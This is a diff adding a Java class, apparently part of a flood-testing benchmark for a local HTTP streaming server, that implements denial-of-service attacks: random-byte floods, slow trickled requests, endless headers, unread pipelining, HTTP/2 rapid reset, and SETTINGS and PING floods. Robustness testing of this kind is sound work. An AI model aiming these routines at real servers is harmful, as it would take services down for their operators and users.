@@ -1,0 +1,96 @@
+package io.millrace.bench.flood;
+
+import java.io.ByteArrayOutputStream;
+import java.io.DataOutputStream;
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+
+/** What is sent to the ports that speak HTTP: 1.1, and 2 in clear text by prior knowledge. */
+final class HttpAttacks {
+  private static final byte[] REQUEST =
+      ascii("GET /live/flood/index.m3u8 HTTP/1.1\r\nHost: localhost\r\n");
+  private static final byte[] PREFACE = ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+  private static final int HEADERS = 1;
+  private static final int RST_STREAM = 3;
+  private static final int SETTINGS = 4;
+  private static final int PING = 6;
+  private static final int END_STREAM_AND_HEADERS = 5;
+
+  /** {@code :method GET, :scheme http, :path /, :authority a}, by HPACK's static table. */
+  private static final byte[] FIELDS = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'a'};
+
+  private HttpAttacks() {}
+
+  static void randomBytes(Attacker attacker) throws IOException {
+    byte[] noise = new byte[4_096];
+    while (true) {
+      attacker.random().nextBytes(noise);
+      attacker.send(noise);
+    }
+  }
+
+  static void byteASecond(Attacker attacker) throws IOException, InterruptedException {
+    attacker.trickle(REQUEST);
+  }
+
+  static void endlessHeaders(Attacker attacker) throws IOException {
+    attacker.send(REQUEST);
+    for (int i = 0; ; i++) {
+      attacker.send(ascii("X-Header-" + i + ": nothing of interest\r\n"));
+    }
+  }
+
+  static void pipeliningWithoutReading(Attacker attacker) throws IOException {
+    ByteArrayOutputStream many = new ByteArrayOutputStream();
+    for (int i = 0; i < 64; i++) {
+      many.writeBytes(REQUEST);
+      many.writeBytes(ascii("\r\n"));
+    }
+    while (true) {
+      attacker.send(many.toByteArray());
+    }
+  }
+
+  static void rapidReset(Attacker attacker) throws IOException {
+    greet(attacker);
+    for (int stream = 1; ; stream += 2) {
+      attacker.send(frame(HEADERS, END_STREAM_AND_HEADERS, stream, FIELDS));
+      attacker.send(frame(RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
+    }
+  }
+
+  static void settings(Attacker attacker) throws IOException {
+    greet(attacker);
+    while (true) {
+      attacker.send(frame(SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 100}));
+    }
+  }
+
+  static void pings(Attacker attacker) throws IOException {
+    greet(attacker);
+    while (true) {
+      attacker.send(frame(PING, 0, 0, new byte[8]));
+    }
+  }
+
+  private static void greet(Attacker attacker) throws IOException {
+    attacker.send(PREFACE);
+    attacker.send(frame(SETTINGS, 0, 0, new byte[0]));
+  }
+
+  private static byte[] frame(int type, int flags, int stream, byte[] payload) throws IOException {
+    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+    DataOutputStream out = new DataOutputStream(bytes);
+    out.writeByte(payload.length >> 16);
+    out.writeShort(payload.length);
+    out.writeByte(type);
+    out.writeByte(flags);
+    out.writeInt(stream);
+    out.write(payload);
+    return bytes.toByteArray();
+  }
+
+  private static byte[] ascii(String text) {
+    return text.getBytes(StandardCharsets.US_ASCII);
+  }
+}
